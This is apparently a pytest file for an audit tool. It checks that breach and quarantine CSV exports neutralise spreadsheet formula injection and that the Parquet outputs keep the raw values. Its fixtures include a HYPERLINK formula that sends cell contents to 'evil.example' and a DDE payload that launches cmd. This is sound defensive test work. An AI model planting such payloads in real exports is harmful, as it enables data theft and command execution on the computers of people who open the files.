"""Breach and quarantine CSVs are safe to open in a spreadsheet; the Parquet files keep values."""

from __future__ import annotations

import csv
from datetime import datetime
from pathlib import Path

import duckdb

from slapolicy.audit.run import AuditRequest, audit_document
from slapolicy.policy.loader import load_policy
from tests.conftest import POLICY

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def z(text: str) -> datetime:
    return datetime.fromisoformat(text.replace("Z", "+00:00"))


def test_crm_formulas_are_neutralised_in_the_csvs_and_kept_in_parquet(make_dataset,
                                                                     tmp_path: Path) -> None:
    leads = [  # never touched: each one breaches speed-to-lead
        {"lead_id": lead_id, "created_at": z(t), "mql_at": z(t), "notified_at": z(t)}
        for lead_id, t in ((FORMULA, "2020-03-02T14:00:00Z"), ("+1-555", "2020-03-03T14:00:00Z"),
                           ("lead-ok", "2020-03-04T14:00:00Z"))]
    acts = [{"activity_id": "A1", "lead_id": "lead-ok", "rep_id": "rep-ny",
             "kind": "@SUM(1+1)*cmd|' /C calc'!A0", "occurred_at": z("2020-03-20T15:00:00Z"),
             "outcome": "connected"}]
    # Enough good rows that one set aside stays under the policy's 2% quarantine limit.
    acts += [{"activity_id": f"A{i + 2}", "lead_id": "lead-ok", "rep_id": "rep-ny",
              "kind": "call", "occurred_at": z("2020-03-20T15:00:00Z"), "outcome": "connected"}
             for i in range(60)]
    data = make_dataset(leads=leads, activities=acts)
    out = tmp_path / "audit"
    audit_document(load_policy(POLICY),
                   AuditRequest(POLICY, "2020-03", data, as_of=datetime(2020, 3, 31, 20),
                                output=out),
                   compiled=True, only={"speed-to-lead"})
    with open(out / "breaches.csv", newline="", encoding="utf-8") as fh:
        subjects = [row["subject_id"] for row in csv.DictReader(fh)]
    assert sorted(subjects) == sorted(["'" + FORMULA, "'+1-555", "lead-ok"])
    raw = duckdb.sql(f"SELECT subject_id FROM '{out / 'breaches.parquet'}'").fetchall()
    assert sorted(r[0] for r in raw) == sorted([FORMULA, "+1-555", "lead-ok"])
    with open(out / "quarantine.csv", newline="", encoding="utf-8") as fh:
        values = [row["value"] for row in csv.DictReader(fh) if row["column"] == "kind"]
    assert values == ["'@SUM(1+1)*cmd|' /C calc'!A0"]
    kept = duckdb.sql(f"SELECT value FROM '{out / 'quarantine.parquet'}' "
                      "WHERE \"column\" = 'kind'").fetchall()
    assert kept == [("@SUM(1+1)*cmd|' /C calc'!A0",)]
